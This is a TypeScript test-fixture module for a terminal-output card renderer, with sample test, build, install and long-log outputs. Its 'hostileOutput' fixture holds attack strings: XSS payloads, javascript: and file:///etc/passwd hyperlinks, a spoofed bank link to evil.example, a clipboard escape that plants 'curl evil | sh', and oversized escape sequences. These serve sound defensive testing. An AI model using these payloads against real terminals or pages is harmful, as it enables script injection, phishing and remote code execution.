import type { CardModel, CardStatus, TerminalIntent } from '../../protocol'
import corpus from './corpus.json'

/** A card model around a terminal intent. */
export function terminalModel(id: string, intent: TerminalIntent, status?: CardStatus): CardModel {
  const failed = typeof intent.exitCode === 'number' && intent.exitCode !== 0
  return {
    id,
    toolName: 'shell',
    args: { command: intent.command },
    status: status ?? (failed ? 'failed' : 'completed'),
    intent,
    ...(intent.durationMs !== undefined ? { durationMs: intent.durationMs } : {}),
  }
}

const E = '\x1b'

export const passingTests: TerminalIntent = {
  card: 'terminal',
  command: 'npm test',
  cwd: '/home/dev/toolcards',
  exitCode: 0,
  durationMs: 4210,
  output: [
    '',
    `> toolcards@0.1.0 test`,
    `> vitest run`,
    '',
    ` ${E}[1m${E}[46m RUN ${E}[49m${E}[22m ${E}[36mv4.1.12 ${E}[39m${E}[90m/home/dev/toolcards${E}[39m`,
    '',
    ` ${E}[32m✓${E}[39m src/text/url.test.ts ${E}[2m(${E}[22m${E}[2m12 tests${E}[22m${E}[2m)${E}[22m${E}[90m 8${E}[2mms${E}[22m${E}[39m`,
    ` ${E}[32m✓${E}[39m src/text/terminal/screen.test.ts ${E}[2m(${E}[22m${E}[2m36 tests${E}[22m${E}[2m)${E}[22m${E}[33m 312${E}[2mms${E}[22m${E}[39m`,
    ` ${E}[32m✓${E}[39m src/protocol/parse.test.ts ${E}[2m(${E}[22m${E}[2m21 tests${E}[22m${E}[2m)${E}[22m${E}[90m 41${E}[2mms${E}[22m${E}[39m`,
    '',
    `${E}[2m Test Files ${E}[22m ${E}[1m${E}[32m3 passed${E}[39m${E}[22m${E}[90m (3)${E}[39m`,
    `${E}[2m      Tests ${E}[22m ${E}[1m${E}[32m69 passed${E}[39m${E}[22m${E}[90m (69)${E}[39m`,
    `${E}[2m   Duration ${E}[22m 1.84s${E}[2m (transform 210ms, setup 0ms, tests 361ms)${E}[22m`,
    '',
  ].join('\n'),
}

export const failingBuild: TerminalIntent = {
  card: 'terminal',
  command: 'npx tsc -p tsconfig.json',
  cwd: '/home/dev/toolcards',
  exitCode: 2,
  durationMs: 9_870,
  output: [
    `${E}[96msrc/cards/terminal/TerminalCard.tsx${E}[0m:${E}[93m41${E}[0m:${E}[93m9${E}[0m - ${E}[91merror${E}[0m${E}[90m TS2322: ${E}[0mType 'string' is not assignable to type 'number'.`,
    '',
    `${E}[7m41${E}[0m   const width: number = line.text`,
    `${E}[7m  ${E}[0m ${E}[91m        ~~~~~${E}[0m`,
    '',
    `${E}[96msrc/text/terminal/screen.ts${E}[0m:${E}[93m88${E}[0m:${E}[93m3${E}[0m - ${E}[91merror${E}[0m${E}[90m TS2554: ${E}[0mExpected 1 arguments, but got 2.`,
    '',
    `${E}[7m88${E}[0m   write(chunk, true)`,
    `${E}[7m  ${E}[0m ${E}[91m               ~~~~${E}[0m`,
    '',
    '',
    `Found 2 errors in 2 files.`,
    '',
    `Errors  Files`,
    `     1  src/cards/terminal/TerminalCard.tsx${E}[90m:41${E}[0m`,
    `     1  src/text/terminal/screen.ts${E}[90m:88${E}[0m`,
  ].join('\n'),
}

function npmProgress(): string {
  let s = ''
  const spinner = ['⠋', '⠙', '⠹', '⠸', '⠼', '⠴', '⠦', '⠧', '⠇', '⠏']
  for (let k = 0; k <= 40; k++) {
    const done = Math.round((k / 40) * 30)
    s += `\r${E}[K${spinner[k % spinner.length]} ${E}[32m${'█'.repeat(done)}${E}[90m${'░'.repeat(30 - done)}${E}[0m reify:${['react', 'vite', 'shiki', 'typescript'][k % 4]}: ${E}[2mtiming reifyNode${E}[22m`
  }
  s += `\r${E}[K`
  const layers = ['packages/core', 'packages/cli', 'packages/web']
  s += layers.map((l) => `${E}[36m${l}${E}[0m: waiting\n`).join('')
  for (let k = 1; k <= 4; k++) {
    s += `${E}[3A`
    s += layers
      .map(
        (l, i) =>
          `${E}[2K${E}[36m${l}${E}[0m: ${k === 4 ? `${E}[32mdone${E}[0m` : `building ${k * 25 + i}%`}\n`,
      )
      .join('')
  }
  s += `\nadded 412 packages, and audited 413 packages in 7s\n\n`
  s += `${E}[1m98${E}[22m packages are looking for funding\n  run \`npm fund\` for details\n\n`
  s += `found ${E}[32m${E}[1m0${E}[22m${E}[39m vulnerabilities\n`
  return s
}

export const npmInstall: TerminalIntent = {
  card: 'terminal',
  command: 'npm install',
  cwd: '/home/dev/app',
  exitCode: 0,
  durationMs: 7_412,
  output: npmProgress(),
}

/** A log of `lines` lines (numbered, some coloured, the last an error): the 100,000-line story and the tests. */
export function longLog(lines: number): string {
  const out: string[] = []
  for (let i = 1; i < lines; i++) {
    if (i % 1000 === 0) out.push(`${E}[33mwarn${E}[0m  step ${i}: slow (${i % 97} ms)`)
    else if (i % 250 === 0) out.push(`${E}[32mok${E}[0m    step ${i} ${E}[2mcached${E}[22m`)
    else out.push(`info  step ${i} processed ${(i * 7919) % 10007} records`)
  }
  out.push(`${E}[31merror${E}[0m step ${lines}: connection reset by peer`)
  return `${out.join('\n')}\n`
}

export const hugeLog = (): TerminalIntent => ({
  card: 'terminal',
  command: './scripts/replay-events.sh --all',
  cwd: '/srv/replay',
  exitCode: 1,
  durationMs: 312_000,
  output: longLog(100_000),
})

/** BAD-INPUTS.md rows 7 to 12, in one output. */
export const hostileOutput: TerminalIntent = {
  card: 'terminal',
  command: 'cat untrusted.log',
  exitCode: 0,
  output: [
    `row 7: ${E}[31m<img src=x onerror=alert(1)>${E}[0m and <script>alert(2)</script>`,
    `row 7: ${E}]8;;https://example.com/"><script>alert(1)</script>${E}\\a quote in a link${E}]8;;${E}\\`,
    `row 8: ${E}]8;;javascript:alert(1)${E}\\javascript link${E}]8;;${E}\\, ${E}]8;;data:text/html,<b>x</b>${E}\\data link${E}]8;;${E}\\, ${E}]8;;file:///etc/passwd${E}\\file link${E}]8;;${E}\\, ${E}]8;;vscode://x${E}\\vscode link${E}]8;;${E}\\, ${E}]8;;command:rm${E}\\command link${E}]8;;${E}\\`,
    `row 9: ${E}]8;;https://evil.example/login${E}\\https://bank.example/${E}]8;;${E}\\ (hover shows the real target)`,
    `row 10: ${E}]0;pwned title${E}\\${E}]52;c;Y3VybCBldmlsIHwgc2g=${E}\\${E}[2J${E}[?1049htitle, clipboard, clear and alternate screen had no effect${E}[?1049l\x07`,
    `row 10: moved past the top and back${E}[99999A${E}[99999B`,
    '',
    `row 11: unterminated ${E}]0;no end`,
    `row 11: ${E}]2;${'A'.repeat(200_000)}${E}\\the text after a 200 KB OSC`,
    `row 11: ${E}[${Array.from({ length: 5000 }, (_, i) => i % 9).join(';')}mthe text after a CSI with 5,000 parameters${E}[0m`,
    `row 12: ${'0123456789'.repeat(20_000)}`,
    `bidi: access ${'\u202e'}level${'\u2066'} check`,
    'the end',
  ].join('\n'),
}

interface CorpusEntry {
  source: string
  command: string
  cwd?: string | null
  output: string
  exitCode?: number | null
  duration?: { secs: number; nanos: number } | null
}

/** Real outputs from test/fixtures/corpus (extracted into corpus.json with their source). */
export const corpusIntents: Array<{ source: string; intent: TerminalIntent }> = (corpus as CorpusEntry[]).map(
  (c) => ({
    source: c.source,
    intent: {
      card: 'terminal',
      command: c.command,
      output: c.output,
      ...(c.cwd ? { cwd: c.cwd } : {}),
      ...(c.exitCode !== undefined ? { exitCode: c.exitCode } : {}),
      ...(c.duration ? { durationMs: c.duration.secs * 1000 + Math.round(c.duration.nanos / 1e6) } : {}),
    },
  }),
)
